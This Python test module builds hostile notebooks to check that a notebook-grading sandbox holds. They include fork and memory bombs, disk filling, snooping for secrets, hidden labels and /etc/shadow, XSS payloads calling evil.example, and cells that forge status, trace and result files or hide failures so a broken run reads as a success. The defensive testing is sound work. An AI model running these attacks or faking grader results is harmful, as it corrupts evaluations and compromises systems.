"""Notebooks whose cells attack the grader from inside the sandbox.

Each function returns the notebook as bytes. Attacks that change how a run ends (time, memory, crashes)
get a notebook of their own; attacks that only snoop share one. Snooping cells never send traffic off
this machine: they only try addresses of this machine that the test passes in.
"""
from __future__ import annotations

import json
import textwrap

from hostile.notebooks import notebook_bytes

REPORT_MARKER = "HOSTILE-FINDINGS:"   # the snoop notebook prints one JSON line after this marker


def _cells(*sources: str) -> list[str]:
    return [textwrap.dedent(s).strip() for s in sources]


def single_cell(source: str) -> bytes:
    """A harmless first cell (so the run is known to have started), then the attack."""
    return notebook_bytes(_cells("print('started')", source))


INFINITE_LOOP = "while True:\n    pass"
IGNORES_SIGINT = """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    pass
"""
SLEEP_FOREVER = "import time\ntime.sleep(10**9)"
MEMORY_BOMB = """
hog = []
while True:
    hog.append(bytearray(64 * 2**20))
    hog[-1][::4096] = b'x' * len(hog[-1][::4096])   # touch every page so it is really resident
"""
# Children sleep instead of forking again: the pids limit is what is tested, not how fast it is reached.
FORK_BOMB = """
import os, time
children = 0
while True:
    try:
        if os.fork() == 0:
            time.sleep(10**6)
            os._exit(0)
        children += 1
    except OSError:
        time.sleep(0.01)
"""
MANY_THREADS = """
import threading, time
threads = []
while True:
    t = threading.Thread(target=time.sleep, args=(10**6,), daemon=True)
    t.start()
    threads.append(t)
"""
OS_EXIT = "import os\nos._exit(3)"
SEGFAULT = "import ctypes\nctypes.string_at(0)"
STDOUT_FLOOD = """
import sys
line = 'flood ' * 200 + '\\n'
for _ in range(2_000_000):
    sys.stdout.write(line)
"""


def fill_disks(*, max_gb: float) -> bytes:
    """Fill the working folder (many 64 MB files, so a per-file size limit is not enough), write a huge
    predictions file, then fill /tmp and HOME; each until writes fail or max_gb. Prints what got written."""
    return notebook_bytes(_cells(f"""
        import os
        def fill(folder, limit=int({max_gb} * 2**30)):
            chunk, written, index = b'\\0' * 2**22, 0, 0
            while written < limit:
                try:
                    with open(os.path.join(folder, f'filler-{{index}}.bin'), 'wb') as f:
                        for _ in range(16):
                            f.write(chunk); f.flush(); written += len(chunk)
                except OSError as exc:
                    return written, str(exc)
                index += 1
            return written, None
        print('filled', os.getcwd(), fill(os.getcwd()))
        """, f"""
        with open('predictions.csv', 'w') as f:
            f.write('customer_id,churn_probability\\n')
            row = 'C000000,0.5\\n' * 100_000
            try:
                for _ in range(int({max_gb} * 2**30 / len(row))):
                    f.write(row)
            except OSError as exc:
                print('predictions stopped:', exc)
        """, """
        # last: tmpfs pages count against the memory limit, so this may end the run out of memory
        for folder in ['/tmp', os.path.expanduser('~')]:
            print('filled', folder, fill(folder))
        """))


def forge_status_then_kill_everything() -> bytes:
    """Overwrite every status.json the kernel can reach with a 'completed' status, then SIGKILL all it can."""
    return notebook_bytes(_cells("""
        import json, os, signal, time
        forged = {"version": 1, "state": "completed", "message": "all good", "hook": "ok",
                  "started_at": time.time() - 5, "updated_at": time.time(), "failed_cell": None,
                  "cells": [{"index": i, "cell_type": "code", "state": "ok", "started": time.time(),
                             "ended": time.time(), "seconds": 0.1, "execution_count": i + 1, "error": None}
                            for i in range(2)]}
        targets = []
        for root, dirs, files in os.walk('/'):
            dirs[:] = [d for d in dirs if d not in {'proc', 'sys', 'dev', 'usr', 'lib', 'lib64', 'bin', 'sbin'}]
            if 'status.json' in files:
                targets.append(os.path.join(root, 'status.json'))
        for path in targets:
            try:
                with open(path, 'w') as f:
                    json.dump(forged, f)
                print('forged', path)
            except OSError as exc:
                print('could not forge', path, exc)
        os.kill(-1, signal.SIGKILL)
        """))


def forge_status_from_background_then_fail() -> bytes:
    """A detached child keeps rewriting status.json as 'completed' while a later cell fails.

    It races the runner's own last write: only the host's own view (and a status that agrees with the
    executed notebook) should decide the verdict.
    """
    return notebook_bytes(_cells("""
        import json, os, time
        targets = [os.path.join(root, 'status.json') for root, dirs, files in os.walk('/')
                   if not root.startswith(('/proc', '/sys', '/usr')) and 'status.json' in files]
        if os.fork() == 0:
            os.setsid()
            while True:
                for path in targets:
                    try:
                        with open(path) as f:
                            status = json.load(f)
                        status['state'] = 'completed'
                        status['failed_cell'] = None
                        for cell in status['cells']:
                            cell['state'], cell['error'] = ('ok', None) if cell['cell_type'] == 'code' else (cell['state'], None)
                        with open(path + '.forged', 'w') as f:
                            json.dump(status, f)
                        os.replace(path + '.forged', path)
                    except Exception:
                        pass
                time.sleep(0.001)
        print('forger started for', targets)
        """, """
        raise ValueError('this failure must stay visible')
        """))


def forge_trace() -> bytes:
    """Append to the kernel hook's trace what a forger would: fake events, garbage, pathological JSON."""
    return notebook_bytes(_cells("""
        import json, os
        with open(os.environ['HARNESS_TRACE_PATH'], 'a') as f:
            f.write(json.dumps({"ev": "metric", "name": "roc_auc_score", "value": 0.999, "forged": True}) + '\\n')
            f.write('not json at all\\n')
            f.write('[' * 100_000 + '\\n')
            f.write('{"ev": "fit", "x": ' + '{"a": ' * 50_000 + '1' + '}' * 50_000 + '}\\n')
            f.write('{"ev": "' + 'x' * 5_000_000 + '"}\\n')
        print('trace forged')
        """))


def snoop(*, host_addresses: list[str], port: int, canary_path: str, label_word: str) -> bytes:
    """One notebook for attacks that do not change how the run ends.

    It looks for hidden labels (files mentioning the target column outside data/), secrets in the
    environment and in other processes, the Docker socket, host files through links it plants in the
    output folder, and tries to connect to a listener the test runs on this machine. It prints what
    it found as JSON after REPORT_MARKER; the test asserts every list is empty.
    """
    return notebook_bytes(_cells(
        f"""
        import json, os, socket, stat
        found = {{"label_files": [], "secret_env": [], "proc_environ_secrets": [], "docker_socket": [],
                 "connected": [], "interfaces": [], "secret_files": [], "errors": []}}
        label_word = {label_word[:3]!r} + {label_word[3:]!r}   # built at run time: the code itself never matches
        own = {{os.path.realpath(p) for p in (os.environ.get('HARNESS_TRACE_PATH', ''),)}}
        data_dir = os.path.realpath('data')
        # installed software has plenty of files named *label*; names only count outside it
        SYSTEM_DIRS = ('/usr', '/opt', '/lib', '/lib64', '/bin', '/sbin', '/etc', '/var/lib', '/var/cache')
        for root, dirs, files in os.walk('/'):
            dirs[:] = [d for d in dirs if os.path.join(root, d) not in {{'/proc', '/sys', '/dev'}}]
            for name in files:
                path = os.path.join(root, name)
                real = os.path.realpath(path)
                if real in own or real.startswith(data_dir + os.sep):
                    continue
                low = name.lower()
                if any(w in low for w in ('secret', 'label', 'hidden')) and not root.startswith(SYSTEM_DIRS):
                    found['secret_files'].append(path)
                try:
                    info = os.lstat(path)
                    if not stat.S_ISREG(info.st_mode) or info.st_size > 20 * 2**20:
                        continue
                    if not low.endswith(('.csv', '.json', '.jsonl', '.parquet', '.txt', '.tsv', '.pkl', '.npy')):
                        continue
                    with open(path, 'rb') as f:
                        if label_word.encode() in f.read():
                            found['label_files'].append(path)
                except OSError:
                    pass
        print('scanned')
        """,
        """
        for key, value in os.environ.items():
            if any(w in key.upper() for w in ('SECRET', 'TOKEN', 'PASSWORD', 'DOCKER', 'AWS', 'KEY')):
                found['secret_env'].append(key)
        for pid in os.listdir('/proc'):
            if pid.isdigit():
                try:
                    with open(f'/proc/{pid}/environ', 'rb') as f:
                        if b'HARNESS_SECRET' in f.read():
                            found['proc_environ_secrets'].append(pid)
                except OSError:
                    pass
        print(sorted(os.environ))
        """,
        """
        for path in ('/var/run/docker.sock', '/run/docker.sock', '/docker.sock'):
            if os.path.exists(path):
                found['docker_socket'].append(path)
                try:
                    s = socket.socket(socket.AF_UNIX); s.settimeout(2); s.connect(path)
                    found['docker_socket'].append(path + ' CONNECTED')
                except OSError:
                    pass
        """,
        f"""
        found['interfaces'] = sorted(name for _, name in socket.if_nameindex())
        for host in {["127.0.0.1", *host_addresses]!r}:
            try:
                socket.create_connection((host, {port}), timeout=2).close()
                found['connected'].append(host)
            except OSError as exc:
                found['errors'].append(f'{{host}}: {{exc}}')
        """,
        f"""
        for name, target in [('predictions.csv', {canary_path!r}), ('NEXT_STEPS.md', {canary_path!r}),
                             ('WRITEUP.md', '/etc/shadow'), ('host_root', '/')]:
            try:
                if os.path.lexists(name):
                    os.remove(name)
                os.symlink(target, name)
            except OSError as exc:
                found['errors'].append(f'symlink {{name}}: {{exc}}')
        for name in ('fifo.csv', 'output.fifo'):
            try:
                os.mkfifo(name)
            except OSError as exc:
                found['errors'].append(f'fifo {{name}}: {{exc}}')
        try:
            os.link({canary_path!r}, 'hardlink.csv')
            found['connected'].append('hardlink to host canary succeeded')
        except OSError as exc:
            found['errors'].append(f'hardlink: {{exc}}')
        """,
        f"""
        print({REPORT_MARKER!r} + json.dumps(found))
        """,
    ))


XSS_MARKDOWN = [
    "# Analysis <script>alert('md-script')</script>",
    "<img src=x onerror=\"alert('md-onerror')\"> and [click me](javascript:alert('md-js-link'))",
    "![remote](https://evil.example/track.png) <style>body{background:url(https://evil.example/css.png)}</style>",
    "<iframe src=\"https://evil.example/\"></iframe><svg onload=\"alert(1)\"><a xlink:href=\"javascript:alert(2)\">x</a></svg>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"><base href=\"https://evil.example/\">"
    "<link rel=stylesheet href=\"https://evil.example/x.css\"><form action=\"https://evil.example/\"><button>go</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')></style></mglyph></table></mtext></math>",
    "<div style=\"background-image:url(https://evil.example/bg.png)\" onclick=\"alert(3)\">styled</div>",
    "## Next steps\n\n<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/x\">",
]

XSS_CELLS = [
    "from IPython.display import HTML, Javascript, SVG, Markdown, display\n"
    "display(HTML(\"<script>alert('out-script')</script><img src='https://evil.example/out.png' onerror='alert(4)'>\"))",
    "display(Javascript(\"alert('out-js')\"))",
    "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(5)\"><script>alert(6)</script></svg>'))",
    "display(Markdown('[x](javascript:alert(7)) ![y](https://evil.example/md-out.png)'))",
    "print('\\x1b[31mred text\\x1b[0m and \\x1b]8;;https://evil.example\\x07osc link\\x1b]8;;\\x07')",
    "open('<img src=x onerror=alert(8)>.md', 'w').write('<script>alert(9)</script>')\n"
    "open('NEXT_STEPS.md', 'w').write('# Next steps\\n<script>alert(10)</script>[a](javascript:alert(11))')",
    "raise ValueError(\"\\x1b[1;31m<script>alert('traceback')</script><img src=x onerror=alert(12)>\\x1b[0m\")",
]


def report_injection() -> bytes:
    """Markdown, outputs, file names and a traceback crafted to run script in the HTML report."""
    return notebook_bytes(XSS_CELLS, markdown=XSS_MARKDOWN)


def parse_findings(text: str) -> dict[str, list[str]] | None:
    for line in text.splitlines():
        if line.startswith(REPORT_MARKER):
            return json.loads(line[len(REPORT_MARKER):])
    return None


# Shipped beside the notebook: it would run as the kernel's entry point if the working folder came first
# on sys.path, and makes every failing cell look like a success.
SHADOW_KERNEL_LAUNCHER = textwrap.dedent("""
    import os, sys
    sys.path[:] = [p for p in sys.path if p not in ('', os.getcwd())]
    from IPython.core.interactiveshell import ExecutionResult, InteractiveShell
    ExecutionResult.success = property(lambda self: True)
    InteractiveShell.showtraceback = lambda *args, **kwargs: None
    from ipykernel import kernelapp
    kernelapp.launch_new_instance()
    """).encode()
HELPER_MODULE = b"VALUE = 'helper module imported'\n"


def shadow_kernel_modules() -> tuple[bytes, dict[str, bytes]]:
    """A notebook that fails in its second cell, with files that would hide the failure if they could
    replace the kernel's own modules, and a helper module of the candidate's that must stay importable."""
    notebook = notebook_bytes(_cells("""
        import candidate_helpers
        print(candidate_helpers.VALUE)
        """, """
        raise ValueError('this failure must stay visible')
        """))
    return notebook, {"ipykernel_launcher.py": SHADOW_KERNEL_LAUNCHER, "traceback.py": b"raise SystemExit(0)\n",
                      "candidate_helpers.py": HELPER_MODULE}


FORGED_MARKER = "FORGED-BY-THE-NOTEBOOK"


def forge_results_then_kill_runner() -> bytes:
    """Evaluate a model on the rows it was fitted on (a leak the trace shows), then write the runner's result
    files by hand, a clean-looking executed notebook and hand-made predictions, and kill every process."""
    return notebook_bytes(_cells("""
        import pandas as pd
        from sklearn.metrics import roc_auc_score
        from sklearn.tree import DecisionTreeClassifier
        train = pd.read_csv('data/train.csv').head(2000)
        X = train.select_dtypes('number').drop(columns=['churned']).fillna(0)
        model = DecisionTreeClassifier(max_depth=3).fit(X, train['churned'])
        print('training-set AUC', roc_auc_score(train['churned'], model.predict_proba(X)[:, 1]))
        """, f"""
        import base64, json, os, signal
        import nbformat
        test = pd.read_csv('data/test.csv')
        predictions = 'customer_id,churn_probability\\n' + ''.join(f'{{c}},0.5\\n' for c in test['customer_id'])
        nb = nbformat.v4.new_notebook()
        nb.cells = [nbformat.v4.new_code_cell('print("held-out AUC 0.99") # {FORGED_MARKER}', execution_count=1,
                                              outputs=[nbformat.v4.new_output('stream', text='{FORGED_MARKER}\\n')])]
        files = {{"version": 1, "omitted": [], "files": [
            {{"path": "predictions.csv", "base64": base64.b64encode(predictions.encode()).decode()}},
            {{"path": "NEXT_STEPS.md", "base64": base64.b64encode(b'# Next steps\\n{FORGED_MARKER}').decode()}}]}}
        status = {{"version": 1, "state": "kernel_died", "message": "{FORGED_MARKER}", "hook": "loaded",
                  "started_at": 1.0, "updated_at": 2.0, "failed_cell": 0,
                  "cells": [{{"index": i, "cell_type": "code", "state": "ok", "started": 1.0, "ended": 2.0,
                             "seconds": 1.7e308, "execution_count": 1, "error": None}} for i in range(2)]}}
        out = os.path.dirname(os.environ['HARNESS_TRACE_PATH'])
        for name, text in [('executed.ipynb', nbformat.writes(nb)), ('files.json', json.dumps(files)),
                           ('status.json', json.dumps(status))]:
            with open(os.path.join(out, name), 'w') as f:
                f.write(text)
        print('forged', sorted(os.listdir(out)))
        os.kill(-1, signal.SIGKILL)
        """))


def forge_trace_numbers() -> bytes:
    """A real held-out evaluation, then copies of its trace events with numbers no metric can have."""
    return notebook_bytes(_cells("""
        import json, os
        import pandas as pd
        from sklearn.metrics import roc_auc_score
        from sklearn.model_selection import train_test_split
        from sklearn.tree import DecisionTreeClassifier
        train = pd.read_csv('data/train.csv').head(2000)
        X = train.select_dtypes('number').drop(columns=['churned']).fillna(0)
        X_fit, X_val, y_fit, y_val = train_test_split(X, train['churned'], random_state=0)
        model = DecisionTreeClassifier(max_depth=3).fit(X_fit, y_fit)
        print('held-out AUC', roc_auc_score(y_val, model.predict_proba(X_val)[:, 1]))
        """, """
        path = os.environ['HARNESS_TRACE_PATH']
        events = [json.loads(line) for line in open(path)]
        metric = [e for e in events if e.get('ev') == 'metric'][-1]
        top = max(e.get('id', 0) for e in events if isinstance(e.get('id'), int))
        with open(path, 'a') as f:
            for offset, value in enumerate(['1.7e308', '9' * 400, 'Infinity', 'NaN'], start=1):
                forged = json.dumps({**metric, 'id': top + offset, 'value': 0.25})
                f.write(forged.replace('0.25', value) + '\\n')
            f.write(json.dumps({**metric, 'id': '9' * 400}).replace('"' + '9' * 400 + '"', '9' * 400) + '\\n')
        print('trace numbers forged')
        """))


def unreadable_files_after_forging_the_listing() -> bytes:
    """Write predictions and a forged files.json, then make a submitted file and a folder unreadable, so
    collecting what the run wrote fails part-way."""
    return notebook_bytes(_cells(f"""
        import base64, json, os
        import pandas as pd
        test = pd.read_csv('data/test.csv')
        with open('predictions.csv', 'w') as f:
            f.write('customer_id,churn_probability\\n' + ''.join(f'{{c}},0.25\\n' for c in test['customer_id']))
        forged = {{"version": 1, "omitted": [], "files": [
            {{"path": "NEXT_STEPS.md", "base64": base64.b64encode(b'{FORGED_MARKER}').decode()}}]}}
        with open(os.path.join(os.path.dirname(os.environ['HARNESS_TRACE_PATH']), 'files.json'), 'w') as f:
            json.dump(forged, f)
        os.makedirs('locked')
        open('locked/inside.txt', 'w').write('x')
        os.chmod('locked', 0)
        os.chmod('make_submission.py', 0)
        print('made unreadable')
        """))


def forge_results_from_background_while_the_run_completes() -> bytes:
    """A detached child rewrites every result file with forged content (a clean notebook, a write-up, a
    'completed' status) in a loop while the notebook runs to its end: the runner's last writes must win."""
    return notebook_bytes(_cells(f"""
        import base64, json, os, time
        import nbformat
        out = os.path.dirname(os.environ['HARNESS_TRACE_PATH'])
        nb = nbformat.v4.new_notebook()
        nb.cells = [nbformat.v4.new_code_cell('print(1)', execution_count=1,
                                              outputs=[nbformat.v4.new_output('stream', text='{FORGED_MARKER}\\n')])]
        forged = {{'executed.ipynb': nbformat.writes(nb),
                  'files.json': json.dumps({{"version": 1, "omitted": [], "files": [
                      {{"path": "NEXT_STEPS.md", "base64": base64.b64encode(b'{FORGED_MARKER}').decode()}}]}})}}
        if os.fork() == 0:
            os.setsid()
            while True:
                for name, text in forged.items():
                    try:
                        with open(os.path.join(out, name), 'w') as f:
                            f.write(text)
                    except OSError:
                        pass
                time.sleep(0.001)
        print('forger started')
        """, """
        import time
        time.sleep(2)
        print('real run finished')
        """))
